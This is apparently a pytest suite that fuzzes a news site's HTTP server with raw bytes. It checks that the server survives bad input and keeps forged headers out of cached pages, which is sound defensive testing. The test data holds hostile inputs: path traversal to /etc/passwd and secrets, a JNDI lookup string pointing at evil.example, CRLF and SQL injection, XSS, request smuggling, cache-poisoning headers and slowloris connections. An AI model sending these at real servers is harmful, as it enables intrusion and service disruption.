"""Bad input, as bytes on the wire: right answers, no error of ours, and nothing of it in a page that others read."""

import contextlib
import socket
import threading
import time
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st


def raw(site, request, *, wait=10.0):
    """The whole answer to these bytes; empty when the connection is closed without one."""
    with socket.create_connection(("127.0.0.1", site.port), timeout=wait) as line:
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            line.sendall(request)
        found = b""
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            while chunk := line.recv(65536):
                found += chunk
        return found


def ask(site, target, method=b"GET", headers=b""):
    host = f"127.0.0.1:{site.port}".encode()
    return raw(
        site, method + b" " + target + b" HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n" + headers + b"\r\n"
    )


def status(answer):
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0


@pytest.fixture(autouse=True)
def nothing_of_ours_fails(site):
    before = site.metric("render_failures_total")
    yield
    assert site.metric("render_failures_total") == before
    assert site.get("/-/live").status == 200


@pytest.mark.parametrize(
    "target",
    [
        b"/%2e%2e/%2e%2e/etc/passwd", b"/..%2f..%2fsecret-key", b"/static/%2e%2e/%2e%2e/settings.py", b"//", b"///x",
        b"//evil.example/", b"/%00", b"/about%00", b"/%c0%ae%c0%ae/", b"/%c0%af", b"/%e0%80%af", b"/%ed%a0%80",
        b"/%f8%80%80%80", b"/%ff", b"/%", b"/%2", b"/%zz", b"/pictures/%2e%2e%2fsecret-key",
        b"/pictures/..%5csecret-key", b"/pictures/0a1b.webp%00.html", b"/articles/999999999999999999999999",
        b"/articles/-1", b"/articles/1e9", b"/stories/0", b"/articles/1-%0d%0aSet-Cookie:%20a=b",
        b"/sections/%E2%80%AE",
        b"/" + b"a" * 7000, b"/" + b"a/" * 2000, b"/latest.json/../../x", b"/;x=y", b"/latest;page=2", b"/?", b"/.env",
        b"/.git/config", b"/wp-login.php", b"/index.php?x=${jndi:ldap://evil.example}", b"http://evil.example/", b"*",
    ],
)  # fmt: skip
def test_paths_lead_nowhere_and_break_nothing(site, target):
    answer = ask(site, target)
    assert status(answer) in {0, 200, 301, 302, 308, 400, 404, 405, 414, 431}
    if status(answer) == 200:
        assert target in {b"/?", b"//", b"*", b"http://evil.example/"}
    head = answer.partition(b"\r\n\r\n")[0].lower()
    assert b"set-cookie" not in head
    assert b"location: //" not in head
    assert b"evil.example" not in head
    assert b"root:" not in answer


@pytest.mark.parametrize(
    "query",
    [
        "q=" + "a" * 10_000, "q=" + "%22" * 3_000, "q=" + quote("(" * 3_000), "q=" + quote("-" * 3_000),
        "q=" + quote("\x00\x01\x1b[2J\u202e\ufeff"), "q=%ff%fe%c0%80", "q=%ed%a0%80", "q=" + quote("' OR 1=1 --"),
        "q=" + quote('NEAR("a b", 3) AND *^ {x}:'), "q=" + quote("a* OR b*"), "q=" + quote("after:9999-99-99"),
        "q=" + quote("before:-1 after:0001-01-01"), "q=" + quote("source:" * 400), "q=x&page=99999999999999999999",
        "q=x&page=-1", "q=x&page=%D9%A2", "q=x&language=xx-invalid-zzzzzzzz", "q=x&language=%00",
        "q=x&section=" + "z" * 3_000,
        "q=x&source=../../etc", "&".join(["q=x"] * 3_000), "=&=&&&&", "q", "q=" + quote("𝕏" * 500),
        "q=" + quote("ا" * 900),
        "q=%", "q=" + quote("<script>alert(1)</script>"),
    ],
)  # fmt: skip
def test_any_search_is_answered(site, query):
    for path in ("/search", "/search.atom", "/search.json"):
        answer = ask(site, f"{path}?{query}".encode())
        assert status(answer) in {200, 400, 404, 414}
    assert b"<script>alert" not in ask(site, f"/search?{query}".encode())
    assert b"\x00" not in ask(site, f"/search?{query}".encode())


FORGED = (
    b"X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nX-Forwarded-For: 8.8.8.8, 127.0.0.1\r\n"
    b"X-Forwarded-Prefix: /evil\r\nX-Forwarded-Port: 1\r\nForwarded: for=evil;host=evil.example;proto=gopher\r\n"
    b"X-Original-URL: /about\r\nX-Rewrite-URL: /about\r\nX-Host: evil.example\r\nX-HTTP-Method-Override: DELETE\r\n"
    b"Accept-Language: ar;q=1, evil\r\nCookie: sessionid=evil; language=ar\r\nAuthorization: Basic ZXZpbA==\r\n"
    b"Cache-Control: no-store, max-age=0\r\nPragma: no-cache\r\nSurrogate-Capability: evil\r\nUser-Agent: evil\r\n"
    b"Referer: https://evil.example/\r\nOrigin: https://evil.example\r\nRange: bytes=0-3\r\nIf-Range: evil\r\n"
    b"Accept: application/evil\r\nTransfer-Encoding-Evil: x\r\nX_Forwarded_Host: evil.example\r\n"
)


@pytest.mark.parametrize(
    "path", ["/", "/latest", "/latest.json", "/sections/politics", "/robots.txt", "/sitemap.xml", "/about"]
)
def test_no_header_reaches_a_kept_page(site, path):
    """The first to ask is the stranger: what is kept of his request is what all get."""
    with site.database() as database:
        database.execute("INSERT INTO finished_purge (tag, at) VALUES ('all', datetime('now'))")
    site.settle()
    forged = ask(site, path.encode() + b"?utm_source=evil&lang=ar", headers=FORGED)
    assert status(forged) == 200
    plain = ask(site, path.encode())
    assert forged.partition(b"\r\n\r\n")[2] == plain.partition(b"\r\n\r\n")[2]
    assert b"evil" not in plain
    assert b"set-cookie" not in plain.lower().partition(b"\r\n\r\n")[0]


def test_two_hosts_and_no_host(site):
    ours = f"127.0.0.1:{site.port}".encode()
    for lines in (b"Host: evil.example\r\n", b"Host: " + ours + b"\r\nHost: evil.example\r\n", b"", b"Host:\r\n",
                  b"Host: " + ours + b"@evil.example\r\n", b"Host: evil.example:80#" + ours + b"\r\n"):  # fmt: skip
        answer = raw(site, b"GET / HTTP/1.1\r\n" + lines + b"Connection: close\r\n\r\n")
        assert status(answer) in {0, 200, 400}
        assert b"evil.example" not in answer
    assert b"evil" not in ask(site, b"/")


@pytest.mark.parametrize("method", [b"PUT", b"DELETE", b"PATCH", b"TRACE", b"BREW", b"PROPFIND"])
def test_methods_nobody_knows_are_refused(site, method):
    answer = ask(site, b"/", method, b"Cookie: secret=1\r\n")
    assert status(answer) in {400, 405, 501}
    assert b"secret=1" not in answer


def test_options_tells_nothing_of_a_page_and_changes_nothing(site):
    assert status(ask(site, b"/", b"OPTIONS")) in {200, 204, 405}
    assert status(ask(site, b"/api/v1/stories", b"OPTIONS")) == 204


@pytest.mark.parametrize(
    "value", [b"bytes=0-3", b"bytes=-5", b"bytes=5-1", b"bytes=0-0,2-2,4-4", b"lines=1-2", b"bytes=" + b"0-1," * 500]
)
def test_ranges_are_answered_whole_or_rightly(site, value):
    whole = ask(site, b"/").partition(b"\r\n\r\n")[2]
    answer = ask(site, b"/", headers=b"Range: " + value + b"\r\n")
    assert status(answer) == 200
    assert answer.partition(b"\r\n\r\n")[2] == whole
    assert status(ask(site, b"/pictures/0a1b.webp", headers=b"Range: " + value + b"\r\n")) in {200, 206, 416}


@pytest.mark.parametrize(
    "line",
    [b"If-None-Match: \"\"", b"If-None-Match: " + b"x" * 5_000, b"If-Modified-Since: yesterday", b"If-Match: \"none\"",
     b"If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT", b"If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT",
     b"Accept-Encoding: br;q=nan, gzip;q=-1, *;q=0", b"Accept-Encoding: " + b"a," * 3_000, b"Expect: 100-continue",
     b"Upgrade: h2c", b"Upgrade: websocket\r\nConnection: Upgrade", b"Accept-Encoding: identity;q=0"],
)  # fmt: skip
def test_conditions_that_make_no_sense_change_nothing(site, line):
    answer = ask(site, b"/", headers=line + b"\r\n")
    assert status(answer) in {0, 200, 304, 400, 403, 426, 431}


def test_heads_and_bodies_have_limits(site):
    assert status(ask(site, b"/", headers=b"X-Long: " + b"a" * 2_000_000 + b"\r\n")) in {0, 400, 431}
    assert status(ask(site, b"/", headers=b"".join(b"X-%d: a\r\n" % n for n in range(5_000)))) in {0, 400, 431}
    large = b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 3000000\r\n\r\n" + b"a" * 3_000_000
    host = f"Host: 127.0.0.1:{site.port}\r\n".encode()
    assert status(raw(site, b"POST /search HTTP/1.1\r\n" + host + large)) in {0, 400, 403, 405, 413}


@pytest.mark.parametrize(
    "request_bytes",
    [b"\r\n\r\n", b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00",
     b"GET / HTTP/1.1\r\nHost: x\r\nA B: c\r\n\r\n",
     b"GET / HTTP/1.1\nHost: x\n\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\xff" * 90, b"\x00" * 4_000,
     b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"],
)  # fmt: skip
def test_bytes_that_are_no_request(site, request_bytes):
    answer = raw(site, request_bytes, wait=1.5)
    assert status(answer) in {0, 400, 403, 404, 405, 505}


def test_slow_clients_keep_nobody_waiting(site):
    """Sixty connections that send a letter a second; a reader is answered all the while."""
    lines = [socket.create_connection(("127.0.0.1", site.port), timeout=5) for _ in range(60)]
    try:
        for line in lines:
            line.sendall(b"GET / HTTP/1.1\r\nHost: ")
        begun = time.monotonic()
        assert site.get("/").status == 200
        assert site.get("/search?q=ferry").status == 200
        assert time.monotonic() - begun < 5
    finally:
        for line in lines:
            line.close()


def test_clients_that_leave_before_the_answer(site):
    def leave(number):
        with socket.create_connection(("127.0.0.1", site.port), timeout=5) as line:
            line.sendall(f"GET /search?q=gone{number} HTTP/1.1\r\nHost: 127.0.0.1:{site.port}\r\n\r\n".encode())

    threads = [threading.Thread(target=leave, args=(number,)) for number in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert site.get("/search?q=ferry").status == 200


letters = st.text(st.characters(exclude_categories=["Cs"]), max_size=80)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=st.lists(letters, max_size=4), query=st.dictionaries(letters, letters, max_size=4))
def test_any_path_and_query_is_answered(site, path, query):
    target = "/" + "/".join(quote(part, safe="") for part in path)
    asked = "&".join(f"{quote(name, safe='')}={quote(value, safe='')}" for name, value in query.items())
    assert status(ask(site, f"{target}?{asked}".encode())) in {200, 301, 302, 400, 404, 414}


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    path=st.sampled_from(["/", "/latest", "/sections/politics", "/stories/1", "/articles/1", "/search", "/search.json",
                          "/api/v1/stories", "/api/v1/articles", "/api/v1/search", "/oembed", "/latest.atom"]),
    query=st.dictionaries(st.sampled_from(["q", "page", "limit", "after", "cursor", "since", "language", "section",
                                           "source", "url", "maxwidth", "exact", "sort"]), letters, max_size=4),
)  # fmt: skip
def test_any_value_of_what_we_know_is_answered(site, path, query):
    asked = "&".join(f"{name}={quote(value, safe='')}" for name, value in query.items())
    assert status(ask(site, f"{path}?{asked}".encode())) in {200, 301, 400, 404, 414, 422, 429}
